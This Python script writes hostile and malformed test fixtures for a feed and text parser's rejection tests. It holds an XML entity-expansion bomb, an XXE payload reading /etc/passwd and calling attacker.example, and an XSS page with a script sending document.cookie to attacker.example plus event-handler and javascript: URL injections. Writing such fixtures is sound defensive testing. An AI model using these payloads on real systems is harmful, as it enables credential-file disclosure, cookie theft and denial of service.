"""Write the hostile and broken inputs of tests/data/bad/ (run once; output is committed).

Each file is a small, deterministic example of one way an input can be bad. Readers must reject
each one with one clear error, or read what can be read, and must never crash, hang or fetch
anything. See tests/data/bad/README.md for what each file is meant to trigger.
"""

from __future__ import annotations

import json
import random
from pathlib import Path

BAD = Path(__file__).resolve().parent.parent / "tests" / "data" / "bad"


def billion_laughs(levels: int = 6) -> str:
    """Entity expansion bomb. It has only 6 levels (3 MB if expanded), so a parser that does expand
    it fails a test instead of freezing the machine. Safe parsers refuse any DTD entity."""
    ents = ['  <!ENTITY lol0 "lol">']
    for i in range(1, levels + 1):
        ents.append(f'  <!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    return ('<?xml version="1.0"?>\n<!DOCTYPE feed [\n' + "\n".join(ents) + "\n]>\n"
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>bomb</title>'
            f"<entry><id>e1</id><title>t</title><content>&lol{levels};</content></entry></feed>\n")


XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "http://attacker.example/steal?x=1">
]>
<rss version="2.0"><channel><title>XXE test</title><link>https://x.example/</link><description>d</description>
<item><guid isPermaLink="false">x-1</guid><title>Leak</title><description>&xxe; &remote; 10 killed</description></item>
</channel></rss>
"""

TRUNCATED_FEED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <id>tag:truncated.example,2023:/feed</id>
  <title>Truncated feed</title>
  <updated>2023-05-16T10:00:00Z</updated>
  <entry>
    <id>t-1</id>
    <title>Complete entry</title>
    <updated>2023-05-16T09:00:00Z</updated>
    <content type="text">At least three people were killed, officials said.</content>
  </entry>
  <entry>
    <id>t-2</id>
    <title>Cut off</title>
    <content type="html">&lt;p&gt;Twelve people were taken to hosp"""

XSS_HTML = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hostile page <script>alert('title')</script></title>
<meta property="og:site_name" content="&lt;img src=x onerror=alert(1)&gt;">
<script>fetch('https://attacker.example/?c=' + document.cookie)</script>
</head>
<body onload="alert('onload')">
<h1>Dam burst: 5 killed<img src="x" onerror="alert('img')"></h1>
<p>Officials said <a href="javascript:alert('link')">five people were killed</a> in the flood.</p>
<p>Read <a href="JaVaScRiPt:alert(2)">more</a> or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==">this</a>.</p>
<iframe src="https://attacker.example/frame"></iframe>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<p>&lt;script&gt;alert('escaped text must stay text')&lt;/script&gt;</p>
<style>body{background:url("javascript:alert(4)")}</style>
</body></html>
"""


def main() -> None:
    BAD.mkdir(parents=True, exist_ok=True)
    (BAD / "empty.txt").write_bytes(b"")
    (BAD / "whitespace_only.txt").write_bytes(b" \n\t\r\n  \n")
    (BAD / "binary.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 200)
    (BAD / "billion_laughs.xml").write_text(billion_laughs(), encoding="utf-8")
    (BAD / "xxe.rss").write_text(XXE, encoding="utf-8")
    (BAD / "truncated_feed.atom").write_text(TRUNCATED_FEED, encoding="utf-8")
    (BAD / "xss.html").write_text(XSS_HTML, encoding="utf-8")
    # invalid UTF-8 that is no Cyrillic encoding either: random high bytes, cp1251's undefined 0x98,
    # C1 controls; any 8-bit decoding of it is gibberish with no words.
    rng = random.Random(20230516)
    noise = bytes(rng.choice([0x98, 0x81, 0x83, 0x8D, 0x90, *range(0xA0, 0x100)]) for _ in range(600))
    (BAD / "invalid_utf8.txt").write_bytes(b"Report: " + noise + b"\n")
    good = {"id": "ok-1", "text": "Police said 23 people were detained.", "lang": "en", "date": "2023-05-18"}
    good2 = {"id": "ok-2", "text": "Полиция задержала 23 человека.", "lang": "ru", "date": "2023-05-18"}
    lines = [json.dumps(good, ensure_ascii=False), '{"id": "broken", "text": "unterminated string',
             json.dumps(good2, ensure_ascii=False), "[1, 2, 3]", json.dumps({"id": "no-text", "title": "x"})]
    (BAD / "broken_line.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
